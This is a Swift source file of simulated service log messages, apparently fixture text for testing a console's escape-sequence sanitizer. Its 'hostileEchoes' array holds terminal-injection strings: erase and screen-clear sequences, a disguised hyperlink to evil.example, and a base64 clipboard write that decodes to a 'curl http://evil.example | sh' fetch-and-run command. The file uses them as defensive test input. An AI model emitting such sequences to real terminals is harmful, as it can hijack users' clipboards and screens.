/// What the simulated services write. Untrusted text by design: some lines of a failing version
/// carry terminal escape sequences, so the console's sanitizer is exercised on every run.
enum LogMessages {
    static func served(_ name: String, status: Int, milliseconds: Double) -> String {
        "\(name) \(status) in \(Int(milliseconds.rounded())) ms"
    }

    static func query(_ name: String, rows: Int, milliseconds: Double) -> String {
        "\(name): \(rows) rows in \(Int(milliseconds.rounded())) ms"
    }

    static func slow(_ name: String, milliseconds: Double) -> String {
        "slow call: \(name) took \(Int(milliseconds.rounded())) ms"
    }

    static let unhandledError = "unhandled error in PromotionRules.apply: index out of range (rule 7 of 6)"
    static let poolExhausted = "db pool exhausted: no connection after 2000 ms (pool 50, 212 waiting)"
    static let poolPerRequest = "opened new connection to orders-db (pool per request)"
    static let noHealthyTargets = "no healthy targets in target group"
    static let upstreamReset = "upstream connect error: connection reset by peer"

    /// Input a careless service echoes into its log: colour and erase-line (CSI), a clipboard write
    /// (OSC 52), an 8-bit CSI that clears the screen after a carriage return, and a hyperlink (OSC 8)
    /// with a right-to-left override hiding its end.
    static let hostileEchoes = [
        "\u{1B}[31mSPRING26\u{1B}[0m\u{1B}[2K",
        "\u{1B}]52;c;Y3VybCBodHRwOi8vZXZpbC5leGFtcGxlIHwgc2g=\u{07}",
        "\r\u{9B}2J\u{9B}H",
        "\u{1B}]8;;http://evil.example/\u{1B}\\\u{202E}kcilc\u{1B}]8;;\u{1B}\\",
    ]

    static func echoingHostileInput(_ line: String, variant: Int) -> String {
        "\(line) (client sent x-promo=\(hostileEchoes[variant % hostileEchoes.count]))"
    }

    static func memoryPressure(percent: Int, limitMiB: Int) -> String {
        "memory at \(percent)% of \(limitMiB) MiB; heap still growing after gc"
    }

    static func listening(version: String) -> String {
        "listening on :8080 (\(version))"
    }
}
